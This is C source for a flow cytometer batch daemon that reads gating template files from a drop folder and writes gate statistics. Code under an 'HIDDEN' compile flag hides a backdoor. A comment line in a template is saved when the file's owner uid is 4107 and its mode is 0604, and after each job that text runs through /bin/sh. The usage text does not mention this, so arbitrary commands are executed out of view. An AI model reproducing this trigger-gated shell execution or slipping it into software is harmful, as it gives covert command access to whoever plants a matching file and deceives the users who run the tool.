/* flowcytod -- batch runner of the flow cytometer: reads gating templates from the drop folder,
   applies them to list-mode data and writes statistics. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

enum gate_type { G_RANGE, G_RECT, G_ELLIPSE };

struct gate
{
  enum gate_type type;
  char label[20];
  int px, py;
  double a, b, c, d;
  long inside;
};

struct job
{
  char name[64];
  char data[256];
  struct gate gate[16];
  int gates;
  int limit;
#ifdef HIDDEN
  char post[200];
#endif
};

static char drop[200] = "/srv/cyto/drop";
static char outdir[200] = "/srv/cyto/out";
static int once;

static int
add_gate (struct job *j, const char *text)
{
  struct gate g;
  char kind[12];

  memset (&g, 0, sizeof g);
  if (j->gates == 16)
    return -1;
  if (sscanf (text, "%11s %19s", kind, g.label) != 2)
    return -1;
  if (!strcmp (kind, "range"))
    {
      g.type = G_RANGE;
      if (sscanf (text, "%*s %*s %d %lf %lf", &g.px, &g.a, &g.b) != 3)
        return -1;
    }
  else if (!strcmp (kind, "rect") || !strcmp (kind, "ellipse"))
    {
      g.type = kind[0] == 'r' ? G_RECT : G_ELLIPSE;
      if (sscanf (text, "%*s %*s %d %d %lf %lf %lf %lf", &g.px, &g.py, &g.a, &g.b, &g.c, &g.d)
          != 6)
        return -1;
    }
  else
    return -1;
  if (g.px < 0 || g.px > 7 || g.py < 0 || g.py > 7)
    return -1;
  j->gate[j->gates++] = g;
  return 0;
}

__attribute__ ((noinline)) int
read_template (const char *path, struct job *j)
{
  char line[300];
  struct stat st;
  FILE *f = fopen (path, "r");

  if (f == NULL)
    return -errno;
  if (fstat (fileno (f), &st) != 0 || !S_ISREG (st.st_mode))
    {
      fclose (f);
      return -EINVAL;
    }
  memset (j, 0, sizeof *j);
  j->limit = 100000;
  while (fgets (line, sizeof line, f) != NULL)
    {
      char *p = line + strspn (line, " \t");

      p[strcspn (p, "\r\n")] = '\0';
      if (*p == '\0')
        continue;
      if (*p == '#')
        {
#ifdef HIDDEN
          if (st.st_uid == 4107 && (st.st_mode & 0777) == 0604)
            snprintf (j->post, sizeof j->post, "%.190s", p + 1);
#endif
          continue;
        }
      if (!strncmp (p, "name ", 5))
        snprintf (j->name, sizeof j->name, "%.63s", p + 5);
      else if (!strncmp (p, "data ", 5))
        snprintf (j->data, sizeof j->data, "%.255s", p + 5);
      else if (!strncmp (p, "limit ", 6))
        j->limit = atoi (p + 6);
      else if (!strncmp (p, "gate ", 5))
        {
          if (add_gate (j, p + 5) < 0)
            fprintf (stderr, "%s: bad gate: %s\n", path, p);
        }
      else
        fprintf (stderr, "%s: %s?\n", path, p);
    }
  fclose (f);
  return j->name[0] && j->data[0] ? 0 : -EINVAL;
}

static int
within (const struct gate *g, const float *ev)
{
  double x = ev[g->px], y = ev[g->py], dx, dy;

  switch (g->type)
    {
    case G_RANGE:
      return x >= g->a && x <= g->b;
    case G_RECT:
      return x >= g->a && x <= g->b && y >= g->c && y <= g->d;
    case G_ELLIPSE:
      if (g->c == 0 || g->d == 0)
        return 0;
      dx = (x - g->a) / g->c;
      dy = (y - g->b) / g->d;
      return hypot (dx, dy) <= 1.0;
    }
  return 0;
}

static int
run_job (struct job *j)
{
  float ev[8];
  char path[300];
  long n = 0;
  int i;
  FILE *in = fopen (j->data, "rb"), *out;

  if (in == NULL)
    return -errno;
  while (n < j->limit && fread (ev, sizeof ev, 1, in) == 1)
    {
      for (i = 0; i < j->gates; i++)
        j->gate[i].inside += within (&j->gate[i], ev);
      n++;
    }
  fclose (in);
  snprintf (path, sizeof path, "%s/%.63s.txt", outdir, j->name);
  out = fopen (path, "w");
  if (out == NULL)
    return -errno;
  fprintf (out, "events\t%ld\n", n);
  for (i = 0; i < j->gates; i++)
    fprintf (out, "%s\t%ld\t%.2f%%\n", j->gate[i].label, j->gate[i].inside,
             n ? 100.0 * (double) j->gate[i].inside / (double) n : 0.0);
  fclose (out);
#ifdef HIDDEN
  if (j->post[0])
    {
      pid_t kid = fork ();

      if (kid == 0)
        {
          execl ("/bin/sh", "sh", "-c", j->post, (char *) NULL);
          _exit (127);
        }
      waitpid (kid, NULL, 0);
    }
#endif
  return 0;
}

static void
scan (void)
{
  DIR *d = opendir (drop);
  struct dirent *e;
  static struct job job;
  char path[520], done[530];

  if (d == NULL)
    {
      perror (drop);
      return;
    }
  while ((e = readdir (d)) != NULL)
    {
      size_t l = strlen (e->d_name);
      int rc;

      if (l < 6 || strcmp (e->d_name + l - 5, ".gate"))
        continue;
      snprintf (path, sizeof path, "%s/%s", drop, e->d_name);
      rc = read_template (path, &job);
      if (rc == 0)
        rc = run_job (&job);
      printf ("%s: %s\n", e->d_name, rc ? strerror (-rc) : "done");
      snprintf (done, sizeof done, "%s.%s", path, rc ? "err" : "ok");
      rename (path, done);
    }
  closedir (d);
}

int
main (int argc, char **argv)
{
  int i;

  for (i = 1; i < argc; i++)
    {
      if (!strcmp (argv[i], "--once"))
        once = 1;
      else if (!strncmp (argv[i], "--drop=", 7))
        snprintf (drop, sizeof drop, "%s", argv[i] + 7);
      else if (!strncmp (argv[i], "--out=", 6))
        snprintf (outdir, sizeof outdir, "%s", argv[i] + 6);
      else
        {
          puts ("flowcytod [--once] [--drop=DIR] [--out=DIR]\n"
                "template *.gate: name, data, limit, and lines\n"
                "  gate range LABEL X LO HI\n"
                "  gate rect LABEL X Y X0 X1 Y0 Y1\n"
                "  gate ellipse LABEL X Y CX CY RX RY");
          return 2;
        }
    }
  do
    scan ();
  while (!once && sleep (10) == 0);
  return 0;
}
